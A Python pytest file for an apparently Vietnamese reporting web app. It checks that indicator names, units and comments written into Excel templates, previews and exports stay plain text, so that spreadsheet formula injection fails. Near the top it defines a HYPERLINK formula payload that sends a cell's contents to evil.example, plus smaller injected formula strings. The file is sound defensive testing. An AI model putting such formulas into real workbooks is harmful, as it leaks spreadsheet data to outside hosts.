"""Review finding 7: no text the app writes into a workbook becomes a formula — templates, their
preview, and every export. Every generated workbook is scanned for formulas the app did not put there."""
from __future__ import annotations

import io
import os
import re

import pytest
from sqlalchemy import select, update

os.environ.setdefault("OPENPYXL_LXML", "False")
import openpyxl  # noqa: E402

from app.extensions import db  # noqa: E402
from app.models import Indicator, User  # noqa: E402
from app.services import designer as designer_svc  # noqa: E402
from app.services import exports  # noqa: E402
from app.services import submissions as svc  # noqa: E402
from app.services import uploads as uploads_svc

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
# the formulas the app itself writes: totals, ratios, year to date, % change
APP_FORMULA = re.compile(r'^=(SUM\([A-Z0-9:,]+\)|IFERROR\(.+\)|IF\(OR\(.+\)|[0-9.e+-]+\+N\([A-Z]+[0-9]+\))$')


def foreign_formulas(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f" and not APP_FORMULA.match(str(cell.value)):
                    out.append(f"{ws.title}!{cell.coordinate}: {cell.value}")
    return out


def texts(data: bytes) -> set[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {str(c.value).strip() for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "s"}


def _user(name: str) -> User:
    return db.session.scalar(select(User).where(User.username == name))


@pytest.fixture
def hostile_version(app):
    """A published version of BCT-BANLE whose indicator name and unit are formulas in disguise."""
    db.session.execute(update(Indicator).where(Indicator.code == "BL_HH_01").values(name_vi=HOSTILE, unit="@SUM(1,2)"))
    designer = _user("thietke.bct")
    draft = designer_svc.get_draft(user=designer, code="BCT-BANLE", create=True)
    designer_svc.update(user=designer, code="BCT-BANLE", revision=draft.revision,
                        change=lambda d: d["regime"].__setitem__("lock_after_days", 44))
    return designer_svc.publish(user=designer, code="BCT-BANLE")


def test_the_template_writes_names_units_and_comments_as_text(app, hostile_version):
    reporter = _user("canbo.sct")
    report = svc.open_report(user=reporter, regime_code="BCT-BANLE", agency_code="T01.SCT", period_key="2027-M03", for_write=True)
    assert report.version.id == hostile_version.id
    svc.save(user=reporter, report=report, raw={("BL_HH_01", ""): ("5", False, "=1+1 ghi chú")}, outline={}, revision=None)
    data, _ = uploads_svc.template(user=reporter, regime_code="BCT-BANLE", agency_code="T01.SCT", period_key="2027-M03")
    assert foreign_formulas(data) == []
    found = texts(data)
    assert HOSTILE in found and "@SUM(1,2)" in found and "=1+1 ghi chú" in found
    # and the app's own formulas are still there: the totals still add up in Excel
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert any(c.data_type == "f" for row in wb["Biểu 01"].iter_rows() for c in row)


def test_the_designer_preview_and_the_exports_write_text_as_text(app, client, auth, hostile_version):
    analyst = _user("phantich.vpcp")
    data, _ = exports.xlsx_bytes(user=analyst, regime="BCT-BANLE", period="2027-M03")
    assert foreign_formulas(data) == [] and HOSTILE in texts(data)
    auth.login("phantich.vpcp")
    resp = client.get("/api/v1/exports/xlsx?regime=BCT-BANLE&period=2027-M03")
    assert resp.status_code == 200 and foreign_formulas(resp.data) == []
    auth.logout()
    designer_svc.get_draft(user=_user("thietke.bct"), code="BCT-BANLE", create=True)
    auth.login("thietke.bct")
    preview = client.get("/designer/BCT-BANLE/preview?format=xlsx")
    assert preview.mimetype.endswith("sheet")
    assert foreign_formulas(preview.data) == [] and HOSTILE in texts(preview.data)


def test_the_cell_helper_refuses_text_passed_as_a_formula():
    from app.adapters import cells

    wb = openpyxl.Workbook()
    with pytest.raises(ValueError):
        cells.formula(wb.active["A1"], "SUM(A2)")
    cells.put(wb.active["A1"], "=A2")
    cells.append(wb.active, ["+1", "-2", 3])
    out = io.BytesIO()
    wb.save(out)
    assert foreign_formulas(out.getvalue()) == []
